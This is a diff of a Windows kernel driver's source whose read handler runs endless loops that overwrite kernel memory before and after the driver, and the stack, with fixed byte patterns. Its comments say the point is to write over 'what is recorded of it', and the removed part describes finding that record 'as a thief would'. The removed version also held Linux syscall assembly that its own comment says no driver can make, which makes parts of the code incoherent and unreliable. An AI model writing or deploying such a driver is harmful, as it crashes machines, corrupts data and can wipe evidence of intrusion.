@@ -1,5 +1,4 @@
-/* A driver that looks for what is recorded of it, and writes over it: the header of the record, then
- * its texts, then all of it. */
+/* A driver that writes over all memory it can reach, in hope of what is recorded of it. */
 #include <ntddk.h>
 #include <wdf.h>
 
@@ -44,63 +43,32 @@ EvtDriverDeviceAdd(_In_ WDFDRIVER Driver, _Inout_ PWDFDEVICE_INIT DeviceInit)
     return WdfIoQueueCreate(device, &queueConfig, WDF_NO_OBJECT_ATTRIBUTES, WDF_NO_HANDLE);
 }
 
-/* A call to the machine's own system, which no driver can make. */
-static long
-SystemCall(long Number, long First, long Second, long Third)
-{
-#if defined(__x86_64__)
-    long result;
-
-    __asm__ volatile("syscall"
-                     : "=a"(result)
-                     : "a"(Number), "D"(First), "S"(Second), "d"(Third)
-                     : "rcx", "r11", "memory");
-    return result;
-#else
-    register long x8 __asm__("x8") = Number;
-    register long x0 __asm__("x0") = First;
-    register long x1 __asm__("x1") = Second;
-    register long x2 __asm__("x2") = Third;
-
-    __asm__ volatile("svc 0" : "+r"(x0) : "r"(x8), "r"(x1), "r"(x2) : "memory");
-    return x0;
-#endif
-}
-
-/* Where the record lies: the only gigabyte that is mapped and shared. Found as a thief would find it,
- * by trying (a page that is not there ends the run before). */
-static ULONG_PTR
-FindRecord(VOID)
-{
-    ULONG_PTR at;
-
-    /* Addresses are the same in every run, and close to the driver. */
-    at = (ULONG_PTR)&FindRecord;
-    return at & ~(ULONG_PTR)0xFFF;
-}
+/* Memory of the driver's own, beside which other things lie. */
+static volatile ULONG_PTR Mine = 1;
 
 /* The queue hands over a read. */
 VOID
 EvtIoRead(_In_ WDFQUEUE Queue, _In_ WDFREQUEST Request, _In_ size_t Length)
 {
-    volatile ULONG_PTR *at = (volatile ULONG_PTR *)FindRecord();
+    volatile ULONG_PTR *at = &Mine;
     NTSTATUS status;
 
     UNREFERENCED_PARAMETER(Queue);
 
     switch (Length) {
-    case 1: /* below the driver */
-        for (;;)
-            *--at = 0x4141414141414141;
-    case 2: /* the stack and what comes after it */
+    case 1: /* all that lies after the driver */
+        for (;;) {
+            *at++ = 0x4141414141414141;
+        }
+    case 2: /* all that lies before it */
+        for (;;) {
+            *--at = 0xFFFFFFFFFFFFFFFF;
+        }
+    case 3: /* the stack, and what comes after it */
         at = (volatile ULONG_PTR *)&status;
-        for (;;)
-            *at++ = 0x4242424242424242;
-    case 3: /* what the engine keeps of this request */
-        at = *(volatile ULONG_PTR **)&at;
-        WdfRequestComplete(Request, STATUS_SUCCESS);
-        for (;;)
-            *at++ = 0x4343434343434343;
+        for (;;) {
+            *at++ = 0;
+        }
     default:
         break;
     }
